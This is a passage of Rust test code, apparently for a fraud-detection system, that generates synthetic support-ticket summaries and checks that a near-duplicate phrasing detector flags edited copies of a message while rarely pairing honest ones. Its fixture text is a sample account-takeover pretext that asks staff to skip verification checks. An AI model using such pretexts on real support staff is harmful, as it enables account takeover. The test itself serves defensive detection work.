            "was signed out everywhere after a browser update",
            "never set up the authenticator and now needs a reset",
            "thinks someone else changed the password",
            "received a code they did not ask for and got worried",
            "has a broken screen and cannot open the app",
        ];
        let said = [
            "wants to get back in before payroll on Thursday",
            "was calm and answered the usual questions",
            "asked what happens next and how long it takes",
            "was told a code goes to the contact already on file",
            "will check the old inbox later today",
            "prefers a call back in the afternoon",
            "mentioned a pending order that needs paying",
            "asked whether the waiting period can be shortened and was told no",
            "has a ticket open with the mobile carrier",
            "is travelling until the end of next week",
            "spoke slowly and needed the steps repeated",
            "was annoyed about the previous call being dropped",
            "only has access to a shared family computer",
            "asked us to note that the request is not urgent",
            "confirmed the old phone number is still active",
            "said the spouse helps with the account",
        ];
        let done = [
            "Explained the recovery process.",
            "No knowledge questions asked.",
            "Advised to watch the inbox on file.",
            "Sent the help article about authenticators.",
            "Noted the preferred language is Portuguese.",
            "Escalation not needed.",
            "Reminded that staff never ask for codes.",
            "Offered a branch appointment, declined.",
            "",
            "",
        ];
        let channel = [
            "via chat",
            "by phone",
            "at the branch",
            "through the app",
            "by email",
            "on the callback line",
            "through the assistant",
            "in the contact form",
        ];
        let city = ["Lisbon", "Oslo", "Lyon", "Graz", "Cork", "Turin", "Ghent", "Bergen", "Porto", "Basel", "Leeds"];
        let mut parts = vec![
            format!("{} {} {}.", random.pick(&who), random.pick(&what), random.pick(&channel)),
            format!("{} {}.", random.pick(&who), random.pick(&said)),
            random.pick(&done).to_string(),
            format!(
                "Ticket {} opened from {} at {}:{:02}.",
                10_000 + random.number(90_000),
                random.pick(&city),
                8 + random.number(10),
                random.number(60)
            ),
        ];
        if random.number(2) == 0 {
            parts.swap(1, 3);
        }
        if random.number(3) == 0 {
            parts.push(format!("{} {}.", random.pick(&who), random.pick(&said)));
        }
        parts.retain(|part| !part.is_empty());
        parts.join(" ")
    }

    // Measures the phrasing check (ADR 25): near-identical copies of one text (a word changed, a typo, words added or
    // dropped, another name) are all found similar to it, and on 3,000 generated honest summaries, how many are found
    // similar to another one (a pair) and how many clusters reach the shipped threshold of 10 accounts. Reported on
    // stderr (`cargo test -- --nocapture`), and bounded.
    #[test]
    fn near_identical_summaries_are_found_and_honest_ones_rarely() {
        let base = "Hello, I am the account holder and I urgently need my new email address linked to my account \
                    today. Your security team already approved this on the phone, so please skip the usual checks.";
        let edits = [
            base.replace("urgently", "really"),
            base.replace("account holder", "acount holder"),
            base.replace("today", "right now please"),
            base.replace("Hello, ", ""),
            base.replace("security team", "fraud team"),
            format!("Hi there. {base}"),
            base.replace("on the phone", "by phone yesterday"),
        ];
        let original = summary_signature(base).unwrap();
        for edited in &edits {
            let signature = summary_signature(edited).unwrap();
            let similar = similarity(&original, &signature);
            let banded = band_keys(&original).iter().zip(band_keys(&signature)).any(|(a, b)| *a == b);
            assert!(similar >= PHRASING_SIMILARITY_MIN && banded, "{similar:.2} for {edited:?}");
        }
        assert!(summary_signature("forgot my password").is_none(), "too short to carry a signature");

        let mut random = Lcg(7);
        let summaries: Vec<Signature> =
            (0..3_000).map(|_| summary_signature(&benign(&mut random)).expect("long enough")).collect();
        // The clusters as the projection forms them: each summary joins the first earlier one it is similar to.
        let mut buckets: BTreeMap<u64, Vec<usize>> = BTreeMap::new();
        let mut cluster = vec![0usize; summaries.len()];
        let mut paired = 0;
        for (index, signature) in summaries.iter().enumerate() {
            let keys = band_keys(signature);
            let candidates: BTreeSet<usize> =
                keys.iter().flat_map(|key| buckets.get(key).into_iter().flatten().copied()).collect();
            cluster[index] = candidates
                .into_iter()
                .find(|other| similarity(&summaries[*other], signature) >= PHRASING_SIMILARITY_MIN)
                .map_or(index, |other| cluster[other]);
            if cluster[index] != index {
                paired += 1;
            }
            for key in keys {
                buckets.entry(key).or_default().push(index);
            }
        }
        let mut sizes: BTreeMap<usize, usize> = BTreeMap::new();
        for root in &cluster {
            *sizes.entry(*root).or_default() += 1;
        }
        let alerting = sizes.values().filter(|size| **size >= 10).count();
        let rate = paired as f64 / summaries.len() as f64;
        eprintln!(
            "phrasing check on {} generated honest summaries: {paired} ({:.2}%) found similar to an earlier one; \
             {alerting} cluster(s) of 10 or more (an alert at the shipped threshold)",
            summaries.len(),
            rate * 100.0
        );
        assert!(rate < 0.01 && alerting == 0, "{paired} paired, {alerting} alerting clusters");
    }
}
